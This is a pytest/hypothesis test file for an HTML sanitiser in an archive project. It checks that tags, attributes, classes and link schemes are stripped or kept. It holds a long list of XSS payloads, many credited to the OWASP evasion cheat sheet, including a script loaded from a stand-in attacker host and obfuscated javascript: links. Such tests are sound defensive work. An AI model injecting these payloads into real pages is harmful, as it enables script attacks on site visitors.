"""What HTML may stay."""

import html as htmllib
import re
from typing import Any

import html5lib
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hn_archive.sanitise import CLASSES, SCHEMES, TAGS, clean, is_plain, is_too_deep, removed

# Many of them from https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\x0b>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss>",
    "<img/src='x'/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img src=`javascript:alert(1)`>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img dynsrc=javascript:alert(1)><img lowsrc=javascript:alert(1)>",
    "<img src=x style='background:url(javascript:alert(1))'>",
    "<img srcset='javascript:alert(1) 2x'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='&#106;&#97;vascript&#58;alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&Tab;javascript&colon;alert(1)'>x</a>",
    "<a href='java&#1;script:alert(1)'>x</a>",
    "<a href='java\x01script:alert(1)'>x</a>",
    "<a href='java&#x81;script:alert(1)'>x</a>",
    "<a href='&#x7f;javascript&#x7f;:alert(1)'>x</a>",
    "<img src='da&#2;ta:image/svg+xml,x'>",
    "&lt;scr&#1;ipt&gt;alert(1)&lt;/scr&#1;ipt&gt;",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='blob:https://x/1'>x</a>",
    "<a href='x' onclick=alert(1) onmouseover='alert(1)' ping='//evil.example'>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a formaction=javascript:alert(1) action=javascript:alert(1)>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1)><option></select>",
    "<textarea><img src=x onerror=alert(1)></textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<keygen onfocus=alert(1) autofocus>",
    "<body onload=alert(1) background=javascript:alert(1)>",
    "<html manifest=javascript:alert(1)>",
    "<base href='javascript:alert(1)//'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<p style=color:red>x</p>",
    "<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>",
    "<bgsound src=javascript:alert(1)><layer src=x></layer><xss behavior='url(x)'>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<blockquote cite='javascript:alert(1)'>x</blockquote><q cite='data:x,y'>x</q>",
    "<del cite=javascript:alert(1)>x</del><ins cite=javascript:alert(1)>x</ins>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    '<p title="`onmouseover=alert(1)">x</p>',
    "</p><script>alert(1)</script><p>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<a href=\"https://x.vn\" rel=opener target=_top style='position:fixed'>x</a>",
]
URLS = ("href", "src", "cite", "action", "formaction", "data", "background", "poster", "srcset")
SOUP = st.lists(
    st.one_of(
        st.sampled_from(PAYLOADS),
        st.sampled_from([f"<{tag}>" for tag in (*TAGS, "svg", "math", "style", "script", "textarea", "form", "select", "title")]),
        st.sampled_from([f"</{tag}>" for tag in (*TAGS, "svg", "math", "style", "script", "textarea", "title")]),
        st.sampled_from(["<!--", "-->", "<![CDATA[", "]]>", "<a href='", "'>", '"', "<", ">", "&lt;", "&#x3c;", "\x00", "x"]),
        st.text(max_size=5),
    )
).map("".join)


def elements(html: str) -> list[Any]:
    """The elements of a fragment, as html5lib reads it."""
    return [
        element for element in html5lib.parseFragment(html, namespaceHTMLElements=False).iter() if isinstance(element.tag, str)
    ][1:]


def words(html: str) -> str:
    return "".join(html5lib.parseFragment(html, namespaceHTMLElements=False).itertext())


def assert_harmless(html: str) -> None:
    for element in elements(html):
        assert element.tag in TAGS
        for name, value in element.attrib.items():
            assert not name.startswith("on")
            assert name not in {"style", "srcset", "srcdoc", "ping", "target", "action", "formaction"}
            assert name != "class" or set(value.split()) <= CLASSES
            if name in URLS:
                # https://url.spec.whatwg.org/#concept-basic-url-parser, steps 1 to 3
                read = re.sub(r"^[\x00-\x20]+|[\t\n\r]", "", value).lower()
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", read)
                assert scheme is None or scheme[1] in SCHEMES
    assert "<!--" not in html


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_classic_attack_is_taken_away(payload: str) -> None:
    assert_harmless(clean(payload))
    assert_harmless(clean(f"<p>trước {payload} sau</p>"))


@given(SOUP)
def test_whatever_the_soup_only_what_the_list_has_is_left(html: str) -> None:
    assert_harmless(clean(html))


@pytest.mark.parametrize(
    ("html", "found"),
    [
        ("<script>x</script>", [("tag", "script", "")]),
        ("<p onclick=x>a</p>", [("attribute", "p", "onclick")]),
        ("<p style='x'>a</p>", [("attribute", "p", "style")]),
        ("<p class='note quảng-cáo'>a</p>", [("class", "p", "quảng-cáo")]),
        ("<a href='javascript:x'>a</a>", [("link", "a", "javascript:x")]),
        ("<a href='javascript&colon;x'>a</a>", [("link", "a", "javascript:x")]),
        ("<img src='data:image/png,x'>", [("link", "img", "data:image/png,x")]),
        ("<blockquote cite='javascript:x'>a</blockquote>", [("attribute", "blockquote", "cite")]),
        (
            "<iframe src=x></iframe><p><video></video><font color=red>a</font></p>",
            [("tag", "iframe", ""), ("tag", "video", ""), ("tag", "font", "")],
        ),
        ("<a href='x' target=_blank rel=noopener>a</a><img src=x border=0><code class='language-py'>x</code>", []),
        ("<p class='note' id=x lang=en>a</p><details open>x</details>", []),
    ],
)
def test_what_is_taken_away_is_named_in_order(html: str, found: list[tuple[str, str, str]]) -> None:
    assert removed(html) == found


@pytest.mark.parametrize(
    "payload",
    [payload for payload in PAYLOADS if payload.lower().startswith(("<script", "<svg", "<iframe", "<form", "<a href=j", "<body"))],
)
def test_an_attack_in_the_open_is_named(payload: str) -> None:
    assert removed(payload)


@pytest.mark.parametrize("url", ["http://x.vn|a", "http://[x", "https://a b/", "https://x.vn:99999/", "http://256.1.1.1/"])
def test_a_link_that_is_no_address_is_kept_or_named(url: str) -> None:
    html = f'<a href="{url}">x</a>'
    assert "href" in clean(html) or (removed(html) and not is_plain(html))


@pytest.mark.parametrize(
    "html",
    [
        "<p>Hà Nội &amp; <em>cầu</em> <strong>mới</strong><br>dòng</p>",
        '<h2 id="a">A</h2>',
        '<a href="https://x.vn/?a=1&amp;b=2#c">x</a>',
        '<a href="../02/x.md">x</a>',
        '<a href="mailto:a@b.vn">x</a><a href="tel:+84">x</a>',
        '<img src="a.jpg" alt="Ảnh" width="4" height="3" title="Chú thích">',
        '<table><tbody><tr><td colspan="2" align="right">1.234</td></tr></tbody></table>',
        '<ol start="3"><li value="4">x</li></ol>',
        '<p class="note wide">x</p>',
        '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>',
        "<details><summary>x</summary>y</details>",
        '<time datetime="2023-01-12">x</time>',
        "<ruby>漢<rt>hán</rt></ruby>",
        "<p>a\u00a0b</p>",
    ],
)
def test_what_an_article_needs_is_kept_as_it_is(html: str) -> None:
    assert clean(html) == html
    assert removed(html) == []


def test_a_no_break_space_stays_itself() -> None:
    assert clean("<p>8:25&nbsp;|&#160;7\u00a0x &amp;nbsp;</p>") == "<p>8:25\u00a0|\u00a07\u00a0x &amp;nbsp;</p>"


def test_text_that_looks_like_an_attribute_is_text() -> None:
    assert clean('<p class="x">viết <code>class=""</code>, &lt;p class=""&gt;</p>') == (
        '<p>viết <code>class=""</code>, &lt;p class=""&gt;</p>'
    )


def test_control_characters_do_not_come_in_by_references() -> None:
    made = clean("<p title='&#2;'>a&#2;0&#3;&#x1b;[2J&#0;&#x7f;&#xfffe;</p>")
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]", made)


@given(st.integers(0, 0x9F), st.integers(0, len("javascript:x")))
def test_no_character_that_goes_makes_a_scheme_of_what_was_none(code: int, place: int) -> None:
    href = f"{'javascript:x'[:place]}&#x{code:x};{'javascript:x'[place:]}"
    assert_harmless(clean(f'<a href="{href}">x</a><img src="{href}">'))


def test_the_words_of_an_element_that_goes_stay_but_for_scripts_and_styles() -> None:
    assert words(clean("<font>a</font><section>b</section><script>c</script><style>d</style>")) == "ab"


@given(st.text("ế<>&\"' =x", min_size=1))
def test_an_attribute_is_written_so_that_a_pattern_can_read_it(value: str) -> None:
    made = clean(f'<img alt="{htmllib.escape(value)}" src="a.jpg">')
    match = re.fullmatch(r'<img alt="([^"<>]*)" src="a\.jpg">', made)
    assert match is not None
    assert htmllib.unescape(match[1]) == value


INLINE = st.recursive(
    st.one_of(st.text("ế a.&<>\"'\u00a0").map(htmllib.escape), st.just("<br />")),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3).map("".join),
        st.builds("<{0}>{1}</{0}>".format, st.sampled_from(["em", "strong", "code", "sup"]), inner),
        st.builds('<img alt="{}" src="{}" />'.format, st.sampled_from(["", "Ảnh"]), st.sampled_from(["a.jpg", "../b.png"])),
    ),
    max_leaves=6,
)
LINKS = st.builds(
    '<a href="{}">{}</a>'.format,
    st.sampled_from(["x.md", "#a", "/", "?a=1&amp;b=2", "https://x.vn/?a=1&amp;b=2", "../a.pdf", "a%20b"]),
    st.text("ế ab"),
)
BLOCKS = st.lists(
    st.one_of(
        st.builds("<{0}>{1}{2}</{0}>".format, st.sampled_from(["p", "h1", "h3", "pre", "blockquote"]), INLINE, LINKS),
        st.builds("<{0}>\n<li>{1}</li>\n<li>{2}</li>\n</{0}>".format, st.sampled_from(["ul", "ol"]), INLINE, LINKS),
        st.builds(
            "<table>\n<thead>\n<tr>\n<th>{}</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>{}</td>\n</tr>\n</tbody>\n</table>".format,
            INLINE,
            INLINE,
        ),
        st.just("<hr />"),
    )
).map("\n".join)


def tree(html: str) -> list[tuple[str, dict[str, str], str, str]]:
    return [(element.tag, dict(element.attrib), element.text or "", element.tail or "") for element in elements(html)]


@given(BLOCKS)
def test_plain_html_is_only_written_anew(html: str) -> None:
    assert is_plain(html)
    assert removed(html) == []
    assert tree(clean(html)) == tree(html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_attack_is_plain_unless_nothing_is_taken_away(payload: str) -> None:
    assert not is_plain(payload) or tree(clean(payload)) == tree(payload)


@pytest.mark.parametrize(
    "href", ["javascript&colon;x", "&Tab;javascript&colon;x", "data&colon;x", "javascript&#58;x", "x:y", "http&#58;//x"]
)
def test_a_link_with_a_scheme_in_disguise_is_not_plain(href: str) -> None:
    html = f'<p><a href="{href}">x</a></p>'
    assert not is_plain(html) or tree(clean(html)) == tree(html)


@pytest.mark.parametrize(
    "html",
    ["<div>x</div>", '<p class="x">a</p>', "<p>a < b</p>", "<!-- x -->", '<a href="x" title="y">z</a>', "<a href=x>", "<P>x</P>"],
)
def test_what_may_lose_something_is_not_plain(html: str) -> None:
    assert not is_plain(html)


@pytest.mark.parametrize(
    "target", ["x.md", "/a", "#b", "", "https://x", "HTTP://x", "mailto:a", "tel:1", "a/b:c", "?x=a:b", "2023:a"]
)
def test_addresses_without_a_scheme_or_with_a_good_one_stay(target: str) -> None:
    assert not removed(f'<a href="{target}">x</a>')


@pytest.mark.parametrize(
    "target", ["javascript:x", " java\tscript:x", "\x01JavaScript:x", "data:x", "file:///etc/passwd", "ftp://x", "a.b:c"]
)
def test_addresses_with_another_scheme_are_taken_away(target: str) -> None:
    assert [what for what, _, _ in removed(f'<a href="{target}">x</a>')] == ["link"]


@pytest.mark.parametrize(
    "html",
    [
        *("<p>x</p>" * 5_000, "<br>" * 5_000, "<div>" * 200 + "</div>" * 200, "<ul><li>x</li></ul>" * 500, "</b>" * 9_000),
        *("<div><div></div></div>" * 300, "<div></div>" * 300, "<div>" * 199 + "<b></b>" * 300),
    ],
)
def test_a_long_text_is_not_deep(html: str) -> None:
    assert not is_too_deep(html)


@pytest.mark.parametrize(
    "html",
    [
        *(
            "<div>" * 201,
            "<b></i>" * 300,
            "<div></x>" * 300,
            "<blockquote>" * 5_000,
            "<DIV>" * 300,
            "<b\n>" * 300,
            "<br><p>" + "<div>" * 201,
        ),
        *("<div><b></b></b></b>" * 201, "<div>" * 150 + "<b></b>" * 99 + "<div>" * 51),
    ],
)
def test_hundreds_of_open_elements_are_too_deep(html: str) -> None:
    assert is_too_deep(html)


def test_a_link_whose_host_the_parser_refuses_is_reported() -> None:
    html = '<p><a href="https://xn--a.vn/">a</a></p>'
    assert not is_plain(html)
    assert list(removed(html))


@pytest.mark.parametrize(
    ("html", "found"),
    [
        ("<p class>x</p>", []),
        ('<p class="language-py">x</p>', [("class", "p", "language-py")]),
        ('<code class="language-py x">x</code>', [("class", "code", "x")]),
        ('<a target="_blank" rel="x" onclick="y">x</a>', [("attribute", "a", "onclick")]),
        ("<a href>x</a><img src>", []),
        (
            '<img border="0" src="javascript:x" alt="y" onerror="z">',
            [("link", "img", "javascript:x"), ("attribute", "img", "onerror")],
        ),
    ],
)
def test_each_thing_that_is_taken_away_is_told_and_what_changes_no_word_is_not(
    html: str, found: list[tuple[str, str, str]]
) -> None:
    assert removed(html) == found


def test_control_characters_leave_nothing_behind() -> None:
    assert clean("<p title='c&#1;d'>a&#2;b</p>") == '<p title="cd">ab</p>'


@pytest.mark.parametrize(
    "opening", ["<![x[", "<![if !mso]>", "<![", "<![CDATA[", "<!x", "<!", "<!doctype [<!x", "<?x", "</ x>", "<![endif]-->"]
)
def test_whatever_a_declaration_says_what_follows_is_looked_at(opening: str) -> None:
    assert [what for what, _, _ in removed(f"<p>{opening}>a</p><script>b</script>")] == ["tag"]
    removed(f"<p>{opening}")
